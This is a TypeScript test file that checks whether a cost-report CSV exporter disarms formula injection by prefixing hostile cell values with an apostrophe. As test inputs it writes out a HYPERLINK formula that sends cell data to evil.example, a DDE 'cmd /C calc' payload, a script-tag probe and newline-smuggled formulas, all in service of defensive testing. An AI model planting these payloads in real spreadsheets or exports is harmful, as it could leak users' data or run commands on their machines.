import { parse } from 'csv-parse/sync';
import { HOSTILE_NAMES, RUNS_AS_FORMULA } from './hostile-names.fixture';
import { anomalyCsv, costCsv, csvField } from './report-csv';
import { dayCost, reportOf, storedAnomaly } from './report.fixture';

/** The CSV as a spreadsheet reads it: one array of cells per line. */
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: false }) as string[][];

describe('report CSV files with hostile names', () => {
  const rows = HOSTILE_NAMES.map((name, i) => dayCost({ date: '2026-09-15', amount: i % 2 === 0 ? `${i}.25` : `-${i}.5`, domainId: name, projectId: name, serviceId: `svc-${i}`, serviceName: name }));
  const anomalies = HOSTILE_NAMES.map((name, i) =>
    storedAnomaly({ start: `2026-09-15T${String(i).padStart(2, '0')}:00:00.000Z`, end: '2026-09-15T23:00:00.000Z', rule: name, series: { domainId: name, projectId: name, serviceId: `svc-${i}`, serviceName: name, currency: 'USD' } }),
  );
  const report = reportOf('daily', '2026-09-15', rows, anomalies);
  const files = { cost: cellsOf(costCsv(report)), anomalies: cellsOf(anomalyCsv(report)) };

  it('writes no cell a spreadsheet would run as a formula, in either file', () => {
    for (const [file, table] of Object.entries(files)) {
      const [header, ...body] = table;
      expect(body).toHaveLength(HOSTILE_NAMES.length);
      body.forEach((cells) => {
        expect(cells).toHaveLength(header?.length ?? 0);
        cells.forEach((cell, column) => {
          // A plain number ("-5.5") is a value to a spreadsheet, not a formula.
          if (RUNS_AS_FORMULA.test(cell) && !PLAIN_NUMBER.test(cell)) throw new Error(`${file} CSV, column ${header?.[column] ?? column}: ${JSON.stringify(cell)} would run as a formula`);
        });
      });
    }
  });

  it('keeps every name readable: the cell is the name, after the apostrophe that disarms it', () => {
    const [, ...body] = files.cost;
    const readable = new Set(HOSTILE_NAMES.flatMap((name) => [name, `'${name}`]));
    for (const [, domain, project, , serviceName] of body) {
      for (const cell of [domain, project, serviceName]) expect(readable.has(cell ?? '')).toBe(true);
    }
    expect(body.map((cells) => cells[4])).toEqual(expect.arrayContaining(["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")", '<script>alert("x")</script>', "'\t=1+1", "'\uFF1D1+1", "'=1+1,\"a\"\r\n=2+2"]));
  });

  it('never alters an amount, negative ones included', () => {
    const [header, ...body] = files.cost;
    const cost = header?.indexOf('cost') ?? -1;
    expect(body.map((cells) => cells[cost]).sort()).toEqual(rows.map((r) => r.amount).sort());
    expect(body.map((cells) => cells[cost])).toContain('-1.5');
  });
});

describe('csvField in a number column', () => {
  it('writes plain numbers as they are and treats anything else as text', () => {
    expect(csvField('-0.000000000001', 'number')).toBe('-0.000000000001');
    expect(csvField('1.5e-7', 'number')).toBe('1.5e-7');
    expect(csvField(-2.75, 'number')).toBe('-2.75');
    expect(csvField('-1+cmd|\' /C calc\'!A0', 'number')).toBe("'-1+cmd|' /C calc'!A0");
    expect(csvField('=1+1', 'number')).toBe("'=1+1");
    expect(csvField(-Infinity, 'number')).toBe("'-Infinity");
    expect(csvField(Number.NaN, 'number')).toBe('NaN');
  });
});
